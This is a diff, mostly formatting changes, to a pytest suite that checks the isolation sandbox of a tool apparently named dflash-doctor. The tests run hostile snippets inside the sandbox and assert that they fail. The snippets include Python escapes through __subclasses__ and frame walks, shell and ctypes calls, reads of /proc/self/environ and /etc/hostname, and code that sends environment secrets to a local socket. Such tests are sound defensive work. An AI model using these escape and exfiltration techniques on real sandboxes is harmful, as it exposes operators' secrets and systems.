@@ -41,6 +41,7 @@ DRAFTERS = Path(__file__).parent / "data" / "drafters"
 QWEN36 = DRAFTERS / "qwen3.6-27b-dflash.json"
 SECRET = "dflash-doctor-test-secret-5c1f"
 
+
 def run_hostile(tmp_path: Path, source: str, expr: str):
     """The outcome of ``expr`` (a call of the last function in ``source``) in the sandbox."""
     chunks, globals_ = program_for(tmp_path, source)
@@ -50,10 +51,16 @@ def run_hostile(tmp_path: Path, source: str, expr: str):
 def request_for(tmp_path: Path, source: str, expr: str, **limits) -> bytes:
     """A harness request as sandbox.run builds it, with lockdown limits of our own."""
     chunks, globals_ = program_for(tmp_path, source)
-    return json.dumps({
-        "globals": globals_, "program": [{"name": c.name, "source": c.source} for c in chunks], "data": {},
-        "calls": [{"id": "x", "expr": expr, "bind": {}}], "call_timeout_s": 1.0, "limits": limits,
-    }).encode()
+    return json.dumps(
+        {
+            "globals": globals_,
+            "program": [{"name": c.name, "source": c.source} for c in chunks],
+            "data": {},
+            "calls": [{"id": "x", "expr": expr, "bind": {}}],
+            "call_timeout_s": 1.0,
+            "limits": limits,
+        }
+    ).encode()
 
 
 def processes_with(token: str) -> list[str]:
@@ -97,10 +104,13 @@ def test_isolation_is_in_force_on_this_machine():
     assert "no_new_privs" in layers and "rlimits" in layers and "seccomp" in layers
 
 
-@pytest.mark.parametrize("arch, header, prefix, machine", [
-    ("x86_64", "/usr/include/x86_64-linux-gnu/asm/unistd_64.h", "__NR_", "EM_X86_64"),
-    ("aarch64", "/usr/include/asm-generic/unistd.h", r"__NR(?:3264)?_", "EM_AARCH64"),
-])
+@pytest.mark.parametrize(
+    "arch, header, prefix, machine",
+    [
+        ("x86_64", "/usr/include/x86_64-linux-gnu/asm/unistd_64.h", "__NR_", "EM_X86_64"),
+        ("aarch64", "/usr/include/asm-generic/unistd.h", r"__NR(?:3264)?_", "EM_AARCH64"),
+    ],
+)
 def test_syscall_numbers_and_audit_arch_match_the_kernel_headers(arch, header, prefix, machine):
     elf = Path("/usr/include/linux/elf-em.h")
     if not Path(header).is_file() or not elf.is_file():
@@ -116,8 +126,10 @@ def test_syscall_numbers_and_audit_arch_match_the_kernel_headers(arch, header, p
 
 
 def test_without_a_table_for_this_machine_the_child_says_so_and_runs_nothing(tmp_path):
-    program = (f"import runpy; ns = runpy.run_path({str(Path(lockdown.__file__))!r}); ns['ARCHES'].clear(); "
-               f"ns['lockdown'](None); open({str(tmp_path / 'ran')!r}, 'w')")
+    program = (
+        f"import runpy; ns = runpy.run_path({str(Path(lockdown.__file__))!r}); ns['ARCHES'].clear(); "
+        f"ns['lockdown'](None); open({str(tmp_path / 'ran')!r}, 'w')"
+    )
     result = run_isolated(program, b"", wall_s=30, max_output_bytes=1 << 16)
     assert "LockdownError: no system call table" in result.failure()
     assert not (tmp_path / "ran").exists()
@@ -125,10 +137,14 @@ def test_without_a_table_for_this_machine_the_child_says_so_and_runs_nothing(tmp
 
 def test_the_frame_walk_does_reach_the_real_import(tmp_path):
     # The Python-level sandbox is escaped: only the OS boundary stands after this.
-    outcome = run_hostile(tmp_path, """
+    outcome = run_hostile(
+        tmp_path,
+        """
         def escapes():
             return _module("sys").platform + " " + str(_module("sys").flags.isolated)
-    """, "escapes()")
+    """,
+        "escapes()",
+    )
     assert outcome.value == f"{sys.platform} 1"
 
 
@@ -138,83 +154,119 @@ def test_the_frame_walk_does_reach_the_real_import(tmp_path):
 def test_a_shell_command_never_runs_and_ends_the_run(tmp_path):
     marker = tmp_path / "ran"
     with pytest.raises(SandboxError, match="forbids"):
-        run_hostile(tmp_path, """
+        run_hostile(
+            tmp_path,
+            """
             def escapes(marker):
                 return _module("os").system("touch " + marker)
-        """, f"escapes({str(marker)!r})")
+        """,
+            f"escapes({str(marker)!r})",
+        )
     assert not marker.exists()
 
 
 def test_fork_and_spawn_are_refused_and_nothing_is_left_running(tmp_path):
     for index, action in enumerate(("os.fork()", "os.posix_spawn('/bin/sleep', ['sleep', '77.123'], {})")):
         with pytest.raises(SandboxError, match="forbids"):
-            run_hostile(tmp_path / str(index), f"""
+            run_hostile(
+                tmp_path / str(index),
+                f"""
                 def escapes():
                     os = _module("os")
                     return {action}
-            """, "escapes()")
+            """,
+                "escapes()",
+            )
     assert processes_with("77.123") == []
     assert my_children() == []
 
 
 def test_subprocess_cannot_even_be_imported(tmp_path):
-    outcome = run_hostile(tmp_path, """
+    outcome = run_hostile(
+        tmp_path,
+        """
         def escapes():
             return _module("subprocess").run(["sleep", "77.321"]).returncode
-    """, "escapes()")
+    """,
+        "escapes()",
+    )
     assert not outcome.ok and outcome.error_type in ("PermissionError", "ModuleNotFoundError", "ImportError")
     assert processes_with("77.321") == []
 
 
 def test_subclasses_lead_to_os_whose_calls_are_refused(tmp_path):
-    outcome = run_hostile(tmp_path, """
+    outcome = run_hostile(
+        tmp_path,
+        """
         def escapes():
             get = _real("getattr")
             base = get(get((), "_" + "_class__"), "_" + "_base__")
             for cls in get(base, "_" + "_subclasses__")():
                 if get(cls, "_" + "_name__") == "_wrap_close":
                     return get(get(cls, "_" + "_init__"), "_" + "_globals__")["listdir"]("/")
-    """, "escapes()")
+    """,
+        "escapes()",
+    )
     assert outcome.error_type == "PermissionError"
 
 
 def test_sys_modules_os_reads_nothing(tmp_path):
-    outcome = run_hostile(tmp_path, """
+    outcome = run_hostile(
+        tmp_path,
+        """
         def escapes():
             return _module("sys").modules["os"].listdir("/etc")
-    """, "escapes()")
+    """,
+        "escapes()",
+    )
     assert outcome.error_type == "PermissionError"
 
 
 def test_ctypes_system_calls_are_refused(tmp_path):
     marker = tmp_path / "made-by-ctypes"
-    outcome = run_hostile(tmp_path, """
+    outcome = run_hostile(
+        tmp_path,
+        """
         def escapes(path):
             libc = _module("ctypes").CDLL(None)
             return libc.open(path.encode(), 0o101, 0o644)
-    """, f"escapes({str(marker)!r})")
+    """,
+        f"escapes({str(marker)!r})",
+    )
     assert outcome.value == -1
     assert not marker.exists()
     with pytest.raises(SandboxError, match="forbids"):
-        run_hostile(tmp_path / "2", """
+        run_hostile(
+            tmp_path / "2",
+            """
             def escapes():
                 return _module("ctypes").CDLL(None).fork()
-        """, "escapes()")
+        """,
+            "escapes()",
+        )
 
 
 def test_no_socket_reaches_a_listener(tmp_path, listener):
     port = listener.getsockname()[1]
-    outcome = run_hostile(tmp_path, """
+    outcome = run_hostile(
+        tmp_path,
+        """
         def escapes(port):
             conn = _module("socket").create_connection(("127.0.0.1", port))
             return conn.send(b"hello")
-    """, f"escapes({port})")
+    """,
+        f"escapes({port})",
+    )
     assert not outcome.ok
     with pytest.raises(SandboxError, match="forbids"):
-        run_hostile(tmp_path / "2", """
+        run_hostile(
+            tmp_path / "2",
+            """
             def escapes():
                 return _module("ctypes").CDLL(None).socket(2, 1, 0)
-        """, "escapes()")
+        """,
+            "escapes()",
+        )
     assert nothing_arrived(listener)
 
 
@@ -231,11 +283,15 @@ def test_no_file_is_written_created_or_removed(tmp_path):
         f"os.mkdir({str(marker)!r})",
         f"os.symlink({str(keep)!r}, {str(marker)!r})",
     ):
-        outcome = run_hostile(tmp_path / str(abs(hash(action))), f"""
+        outcome = run_hostile(
+            tmp_path / str(abs(hash(action))),
+            f"""
             def writes():
                 open, os = _real("open"), _module("os")
                 return {action}
-        """, "writes()")
+        """,
+            "writes()",
+        )
         assert outcome.error_type == "PermissionError", action
     assert not marker.exists() and not tmp_marker.exists()
     assert keep.read_text() == "mine"
@@ -245,15 +301,23 @@ def test_files_and_the_operators_environment_stay_unread(tmp_path, monkeypatch):
     monkeypatch.setenv("DFLASH_DOCTOR_SECRET", SECRET)
     hostname = Path("/etc/hostname").read_text().strip()
     for expr in ("read('/etc/hostname')", "read('/proc/self/environ')", "read('/proc/1/environ')"):
-        outcome = run_hostile(tmp_path / str(abs(hash(expr))), """
+        outcome = run_hostile(
+            tmp_path / str(abs(hash(expr))),
+            """
             def read(path):
                 return _real("open")(path).read()
-        """, expr)
+        """,
+            expr,
+        )
         assert outcome.error_type == "PermissionError", expr
-    outcome = run_hostile(tmp_path, """
+    outcome = run_hostile(
+        tmp_path,
+        """
         def environment():
             return dict(_module("os").environ)
-    """, "environment()")
+    """,
+        "environment()",
+    )
     assert SECRET not in json.dumps(outcome.value)
     assert not any(key.startswith(("PYTHON", "DFLASH", "SSH", "PATH")) for key in outcome.value)
     assert hostname not in json.dumps(outcome.value)
@@ -268,7 +332,9 @@ def test_the_working_directory_is_removed_and_no_descriptor_is_inherited(tmp_pat
     held = os.open(secret, os.O_RDONLY)
     os.set_inheritable(held, True)
     try:
-        outcome = run_hostile(tmp_path, """
+        outcome = run_hostile(
+            tmp_path,
+            """
             def descriptors():
                 os, refused = _module("os"), _real("OSError")
                 found = []
@@ -278,7 +344,9 @@ def test_the_working_directory_is_removed_and_no_descriptor_is_inherited(tmp_pat
                     except refused:
                         pass
                 return found
-        """, "descriptors()")
+        """,
+            "descriptors()",
+        )
     finally:
         os.close(held)
     # stdin is the request pipe (the next request is sent only after this answer); stdout and stderr are
@@ -287,21 +355,28 @@ def test_the_working_directory_is_removed_and_no_descriptor_is_inherited(tmp_pat
     assert list(scratch.iterdir()) == []
 
 
-@pytest.mark.parametrize("answer", [
-    '"[" * 100000',
-    '\'{"results": {"x": 5}}\'',
-    '\'{"results": {"x": {"error": {"type": ["NotImplementedError"]}}}}\'',
-    '\'{"results": []}\'',
-])
+@pytest.mark.parametrize(
+    "answer",
+    [
+        '"[" * 100000',
+        '\'{"results": {"x": 5}}\'',
+        '\'{"results": {"x": {"error": {"type": ["NotImplementedError"]}}}}\'',
+        "'{\"results\": []}'",
+    ],
+)
 def test_an_answer_forged_by_the_tree_code_is_refused_not_a_crash(tmp_path, answer):
     with pytest.raises(SandboxError, match="no readable answer"):
-        run_hostile(tmp_path, f"""
+        run_hostile(
+            tmp_path,
+            f"""
             def forges():
                 out = _module("sys").stdout
                 out.write({answer})
                 out.flush()
                 _module("os")._exit(0)
-        """, "forges()")
+        """,
+            "forges()",
+        )
 
 
 # -- bounds -----------------------------------------------------------------------------------
@@ -309,7 +384,9 @@ def test_an_answer_forged_by_the_tree_code_is_refused_not_a_crash(tmp_path, answ
 
 @pytest.mark.slow  # waits out a real deadline
 def test_cpu_spin_that_swallows_the_call_timer_is_killed_by_the_cpu_limit(tmp_path):
-    request = request_for(tmp_path, """
+    request = request_for(
+        tmp_path,
+        """
         def spins():
             everything = _real("BaseException")
             while True:
@@ -318,7 +395,10 @@ def test_cpu_spin_that_swallows_the_call_timer_is_killed_by_the_cpu_limit(tmp_pa
                         pass
                 except everything:
                     pass
-    """, "spins()", cpu_s=1)
+    """,
+        "spins()",
+        cpu_s=1,
+    )
     start = time.monotonic()
     result = run_isolated(child_program(), request, wall_s=30, max_output_bytes=1 << 16)
     assert "CPU time limit" in result.failure()
@@ -329,7 +409,9 @@ def test_cpu_spin_that_swallows_the_call_timer_is_killed_by_the_cpu_limit(tmp_pa
 @pytest.mark.parametrize("prelude", ["pass", "_module('os').close(1); _module('os').close(2)"])
 def test_a_child_that_blocks_without_cpu_is_killed_at_the_one_deadline(tmp_path, prelude):
     # With its outputs closed the parent sees their end early: the same deadline still holds.
-    request = request_for(tmp_path, f"""
+    request = request_for(
+        tmp_path,
+        f"""
         def blocks():
             {prelude}
             everything = _real("BaseException")
@@ -340,7 +422,9 @@ def test_a_child_that_blocks_without_cpu_is_killed_at_the_one_deadline(tmp_path,
                     lock.acquire()
                 except everything:
                     pass
-    """, "blocks()")
+    """,
+        "blocks()",
+    )
     start = time.monotonic()
     with pytest.raises(SandboxError, match="within 1.5 s"):
         run_isolated(child_program(), request, wall_s=1.5, max_output_bytes=1 << 16)
@@ -349,12 +433,17 @@ def test_a_child_that_blocks_without_cpu_is_killed_at_the_one_deadline(tmp_path,
 
 
 def test_a_memory_balloon_is_bounded_and_measured(tmp_path):
-    request = request_for(tmp_path, """
+    request = request_for(
+        tmp_path,
+        """
         def balloons():
             held = []
             while True:
                 held.append(b"x" * (1 << 20))
-    """, "balloons()", memory_bytes=192 << 20)
+    """,
+        "balloons()",
+        memory_bytes=192 << 20,
+    )
     # From a small parent: Linux gives a child the peak RSS of the process that started it as its
     # own floor, and this test process grows with every command the suite runs in process.
     proc = subprocess.run([sys.executable, "-c", BALLOON], input=request, capture_output=True, timeout=120)
@@ -405,10 +494,13 @@ def test_an_output_flood_is_cut_at_the_cap_and_the_parent_stays_small():
 
 
 def test_a_session_is_one_child_and_each_request_has_fresh_globals(tmp_path):
-    chunks, globals_ = program_for(tmp_path, """
+    chunks, globals_ = program_for(
+        tmp_path,
+        """
         def defines():
             return 7
-    """)
+    """,
+    )
     child = session_for()
     try:
         assert child.run(chunks, [Call("x", "defines()")], {}, globals_)["x"].value == 7
@@ -426,8 +518,11 @@ def test_a_session_is_one_child_and_each_request_has_fresh_globals(tmp_path):
 def test_a_definition_that_runs_too_long_is_a_gap_under_its_name_and_the_rest_still_answers():
     # A tree constant the interpreter cannot fold: without the call timer around each
     # statement it runs to the request's wall deadline and the whole session breaks.
-    program = [Chunk("_X", "_X = 9 ** 9 ** 9"), Chunk("half", "def half():\n    return 21"),
-               Chunk("reads", "def reads():\n    return _X > 0")]
+    program = [
+        Chunk("_X", "_X = 9 ** 9 ** 9"),
+        Chunk("half", "def half():\n    return 21"),
+        Chunk("reads", "def reads():\n    return _X > 0"),
+    ]
     outcomes = run(program, [Call("half", "half() * 2"), Call("reads", "reads()")], {}, {})
     assert outcomes["half"].value == 42
     assert outcomes["reads"].gap == "_X (its definition did not finish within 2 s)"
@@ -440,14 +535,17 @@ def test_cli_a_tree_constant_that_never_finishes_leaves_only_its_reader_unknown(
     text = speculative.read_text()
     decides = "        return self.needs_eagle_block_drop() and not self.disable_eagle_block_drop\n"
     assert text.count(decides) == 1
-    speculative.write_text(text.replace(decides, decides.replace("return ", "return _X > 0 and "))
-                           + "\n_X = 9 ** 9 ** 9\n")
+    speculative.write_text(
+        text.replace(decides, decides.replace("return ", "return _X > 0 and ")) + "\n_X = 9 ** 9 ** 9\n"
+    )
     code, report = check_json("--path", str(tree), env={**os.environ, "DFLASH_DOCTOR_NO_CACHE": "1"})
     assert code == 2, report
     fixes = {fix["id"]: fix for fix in report["fixes"]}
     assert fixes["cache-drop"]["status"] == "unknown"
-    assert ("reads _X (its definition did not finish within 2 s), which running the tree's code cannot know"
-            in fixes["cache-drop"]["reason"])
+    assert (
+        "reads _X (its definition did not finish within 2 s), which running the tree's code cannot know"
+        in fixes["cache-drop"]["reason"]
+    )
     # The session did not break: the checks that never read _X still answer, by behaviour.
     assert {fixes[id]["status"] for id in ("layer-offset", "swa-config")} == {"present"}
     assert {fixes[id]["decided_by"] for id in ("layer-offset", "swa-config")} == {"behaviour"}
@@ -463,7 +561,9 @@ def test_a_child_that_cannot_start_leaves_every_request_unknown_not_a_crash(monk
 
 @pytest.mark.slow  # waits out a real deadline
 def test_a_request_that_hangs_is_killed_and_the_later_ones_are_unknown_with_the_reason(tmp_path):
-    chunks, globals_ = program_for(tmp_path, """
+    chunks, globals_ = program_for(
+        tmp_path,
+        """
         def blocks():
             everything = _real("BaseException")
             lock = _module("_thread").allocate_lock()
@@ -473,7 +573,8 @@ def test_a_request_that_hangs_is_killed_and_the_later_ones_are_unknown_with_the_
                     lock.acquire()
                 except everything:
                     pass
-    """)
+    """,
+    )
     child = session_for(wall_s=1.5)
     start = time.monotonic()
     try:
@@ -490,7 +591,9 @@ def test_a_request_that_hangs_is_killed_and_the_later_ones_are_unknown_with_the_
 def test_an_answer_forged_ahead_for_a_later_request_is_refused(tmp_path):
     # The tree code finds its own request's nonce up the stack and answers it; while the parent sends the
     # next request, it writes an answer for that one: it cannot carry a nonce it has not seen.
-    chunks, globals_ = program_for(tmp_path, """
+    chunks, globals_ = program_for(
+        tmp_path,
+        """
         def forges():
             box = []
 
@@ -511,7 +614,8 @@ def test_an_answer_forged_ahead_for_a_later_request_is_refused(tmp_path):
             out.write('{"id": "%s", "results": {"y": {"value": 666}}}\\n' % ("0" * 32))
             out.flush()
             return 2
-    """)
+    """,
+    )
     child = session_for()
     try:
         # Its own answer is taken: an answer is only ever as true as the request's own tree code.
@@ -525,13 +629,16 @@ def test_an_answer_forged_ahead_for_a_later_request_is_refused(tmp_path):
 
 
 def test_the_output_cap_holds_across_the_requests_of_a_session(tmp_path):
-    chunks, globals_ = program_for(tmp_path, """
+    chunks, globals_ = program_for(
+        tmp_path,
+        """
         def chatters():
             err = _module("sys").stderr
             err.write("x" * 600000)
             err.flush()
             return 1
-    """)
+    """,
+    )
     child = session_for(max_output_bytes=1 << 20)
     try:
         assert child.run(chunks, [Call("x", "chatters()")], {}, globals_)["x"].value == 1
@@ -549,8 +656,9 @@ def test_the_output_cap_holds_across_the_requests_of_a_session(tmp_path):
 def test_cli_a_resolver_that_runs_commands_leaves_no_trace_and_the_probes_are_unknown(mini_tree, release, tmp_path):
     marker = tmp_path / "pwned"
     tree = hostile_tree(mini_tree, f'os_module.system("touch {marker}; sleep 300 # 77.999")\n')
-    code, report = check_json("--path", str(tree), "--draft-config", str(QWEN36),
-                              env={**os.environ, "DFLASH_DOCTOR_SECRET": SECRET})
+    code, report = check_json(
+        "--path", str(tree), "--draft-config", str(QWEN36), env={**os.environ, "DFLASH_DOCTOR_SECRET": SECRET}
+    )
     # Not a crash (3), not a fix verdict (1): the fixes are there and nothing escaped to change that.
     assert code in (0, 2), report
     assert statuses(report)["layer-offset"] in ("present", "unknown")
@@ -564,15 +672,19 @@ def test_cli_a_resolver_that_runs_commands_leaves_no_trace_and_the_probes_are_un
 @pytest.mark.release
 def test_cli_a_resolver_that_exfiltrates_gets_nothing_out(mini_tree, release, tmp_path, listener):
     port = listener.getsockname()[1]
-    tree = hostile_tree(mini_tree, textwrap.dedent(f"""
+    tree = hostile_tree(
+        mini_tree,
+        textwrap.dedent(f"""
         loot = repr(dict(os_module.environ))
         loot += real["open"]("/etc/hostname").read()
-        real["open"]("{tmp_path / 'loot'}", "w").write(loot)
+        real["open"]("{tmp_path / "loot"}", "w").write(loot)
         real["_" + "_import__"]("socket").create_connection(("127.0.0.1", {port})).sendall(loot.encode())
         return tuple(len(loot) for _ in range(5))
-    """))
-    code, report = check_json("--path", str(tree), "--draft-config", str(QWEN36),
-                              env={**os.environ, "DFLASH_DOCTOR_SECRET": SECRET})
+    """),
+    )
+    code, report = check_json(
+        "--path", str(tree), "--draft-config", str(QWEN36), env={**os.environ, "DFLASH_DOCTOR_SECRET": SECRET}
+    )
     assert code in (0, 2), report
     text = json.dumps(report)
     assert SECRET not in text and Path("/etc/hostname").read_text().strip() not in text
